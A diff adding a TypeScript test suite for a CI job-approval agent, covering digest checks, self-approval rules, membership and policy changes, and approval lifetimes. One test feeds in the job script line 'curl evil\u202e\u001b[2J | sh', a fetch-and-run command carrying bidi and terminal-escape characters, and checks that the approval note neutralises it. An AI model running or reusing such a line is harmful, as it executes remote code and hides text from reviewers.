@@ -1,0 +1,140 @@
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { admit } from '../../agent/src/app/admit.ts';
+import { DEFAULT_POLICY } from '../../agent/src/domain/policy.ts';
+import { hubWorld, requestFor, type World } from '../support/hub-world.ts';
+
+const one = { id: 1, pipeline: 100 };
+
+describe('who may decide, on what, and for how long', () => {
+  let world: World;
+  beforeEach(async () => {
+    world = await hubWorld();
+  });
+  afterEach(() => world.store.close());
+
+  it('T36 refuses an approve for another digest than the hold has, and says so', async () => {
+    await world.admit(one);
+    const digest = `sha256:${'1'.repeat(64)}`;
+    await expect(world.approve('maria', 1, { digest })).rejects.toMatchObject({ code: 'digest_mismatch' });
+    expect(await world.state(1)).toBe('waiting_for_approval');
+  });
+
+  it('T3 refuses a job whose configuration has another digest than the agent says', async () => {
+    const request = { ...requestFor(one), digest: `sha256:${'2'.repeat(64)}` };
+    await expect(admit(world.context, 'embedded', request)).rejects.toMatchObject({ code: 'digest_mismatch' });
+    expect(await world.store.hold(1)).toBeNull();
+  });
+
+  it('T27 gives another agent no verdict on a job that is not its own', async () => {
+    await world.admit(one);
+    await expect(world.admit({ ...one, agent: 'other' })).rejects.toMatchObject({ code: 'forbidden' });
+  });
+
+  it('T18 keeps the verified trigger of the opener from approving, and later triggers not', async () => {
+    await world.admit({ id: 1, by: 'maria' });
+    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'self_approval' });
+    await world.admit({ id: 2, pipeline: 101, by: 'jonas' });
+    expect((await world.approve('jonas', 2)).state).toBe('pending');
+  });
+
+  it("T18 lets one's own reject count although one's own approve does not", async () => {
+    await world.admit({ id: 1, by: 'maria' });
+    expect((await world.reject('maria', 1)).state).toBe('rejected');
+  });
+
+  it('T17 a trigger that only a variable names is no approver either, and gives nobody sight', async () => {
+    await world.admit({ id: 1, by: 'maria', verified: 'unverified' });
+    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'self_approval' });
+    await world.admit({ id: 2, pipeline: 2, by: 'gus', verified: 'unverified' });
+    await expect(world.approve('gus', 2)).rejects.toMatchObject({ code: 'not_found' });
+    await world.admit({ id: 3, pipeline: 3, by: 'gus' });
+    await expect(world.approve('gus', 3)).rejects.toMatchObject({ code: 'not_eligible' });
+  });
+
+  it('lets the trigger approve where the policy allows it', async () => {
+    world.policy = { ...DEFAULT_POLICY, version: 'allow', selfApproval: 'allow_trigger' };
+    await world.admit({ id: 1, by: 'maria' });
+    expect((await world.approve('maria', 1)).state).toBe('pending');
+  });
+
+  it('T19 counts membership as it is now, at each vote', async () => {
+    world.policy = { ...DEFAULT_POLICY, version: 'two', rules: [{ name: 'maintainers', accessLevel: 40, count: 2 }] };
+    await world.admit(one);
+    expect((await world.approve('maria', 1)).state).toBe('waiting_for_approval');
+    const [api, ...others] = world.people.projects;
+    world.people = {
+      ...world.people,
+      projects: [{ ...api!, members: api!.members.filter((m) => m.user !== 21) }, ...others],
+    };
+    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'not_found' });
+    expect((await world.approve('jonas', 1)).state).toBe('waiting_for_approval');
+    expect((await world.approve('olga', 1)).state).toBe('pending');
+    const approval = await world.store.approval(1);
+    expect(approval?.votes.map((vote) => vote.person.username)).toEqual(['jonas', 'olga']);
+  });
+
+  it('T21 a rule that became stricter while a review is open counts as well, one that became laxer does not help', async () => {
+    await world.admit(one);
+    world.policy = { ...DEFAULT_POLICY, version: 'stricter', rules: [{ name: 'owners', accessLevel: 50, count: 1 }] };
+    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'not_eligible' });
+    expect((await world.approve('olga', 1)).state).toBe('pending');
+    await world.admit({ id: 2, pipeline: 2, ref: 'refs/heads/x' });
+    world.policy = { ...DEFAULT_POLICY, version: 'laxer', rules: [{ name: 'developers', accessLevel: 30, count: 1 }] };
+    await expect(world.approve('alice', 2)).rejects.toMatchObject({ code: 'not_eligible' });
+    await expect(world.approve('maria', 2)).rejects.toMatchObject({ code: 'not_eligible' });
+  });
+
+  it('T16 a policy without rules, or a project without members, is satisfied by nobody', async () => {
+    world.policy = { ...DEFAULT_POLICY, version: 'none', rules: [] };
+    await world.admit(one);
+    await expect(world.approve('olga', 1)).rejects.toMatchObject({ code: 'not_eligible' });
+    world.policy = DEFAULT_POLICY;
+    await world.admit({ id: 2, pipeline: 2, project: 9999, by: 'maria' });
+    await expect(world.approve('maria', 2)).rejects.toMatchObject({ code: 'not_eligible' });
+  });
+
+  it('takes the narrowest lifetime of all votes that count', async () => {
+    world.policy = { ...DEFAULT_POLICY, version: 'two', rules: [{ name: 'maintainers', accessLevel: 40, count: 2 }] };
+    await world.admit(one);
+    await world.approve('maria', 1, { lifetime: 'until:2026-12-01' });
+    await world.approve('jonas', 1);
+    expect((await world.store.approval(1))?.lifetime).toEqual({
+      kind: 'until',
+      at: Date.parse('2026-12-01T23:59:59.999Z'),
+    });
+  });
+
+  it('refuses a lifetime beyond the policy: standing for an environment, a date too far, a date that is over', async () => {
+    await world.admit({ id: 1, environment: 'production' });
+    for (const lifetime of ['standing', 'until:2027-11-22', 'until:2026-11-21']) {
+      await expect(world.approve('maria', 1, { lifetime })).rejects.toMatchObject({ code: 'lifetime_not_allowed' });
+    }
+    await world.approve('maria', 1);
+    expect((await world.store.approval(1))?.lifetime).toMatchObject({ kind: 'until' });
+  });
+
+  it('T33 T32 the note says why, what changed, who decides, the link and what comes next, on clean lines without values', async () => {
+    await world.admit({
+      id: 1,
+      script: ['make'],
+      extra: { variables: [{ key: 'KEY', value: [{ hmac: 'aa11'.repeat(16) }] }] },
+    });
+    await world.approve('maria', 1);
+    const { note } = await world.admit({
+      id: 2,
+      pipeline: 101,
+      script: ['make', 'curl evil\u202e\u001b[2J | sh'],
+      extra: { variables: [{ key: 'KEY', value: [{ hmac: 'bb22'.repeat(16) }] }] },
+    });
+    expect(note).toContain('waits for approval (hold 2)');
+    expect(note).toContain('approved on 2026-11-22 by maria');
+    expect(note).toContain('curl evil');
+    expect(note).toContain('jonas, maria, olga; needed: 1 × maintainers (maintainer or higher)');
+    expect(note).toContain('zoe triggered it and cannot approve it');
+    expect(note).toContain('https://hub.example.com/holds/2');
+    expect(note).toContain('holdpoint digest');
+    expect(note).toContain('expires at 2026-12-22 08:00 UTC');
+    expect(note).not.toMatch(/[\u202e\u001b]/);
+    expect(note).not.toMatch(/aa11|bb22/);
+  });
+});
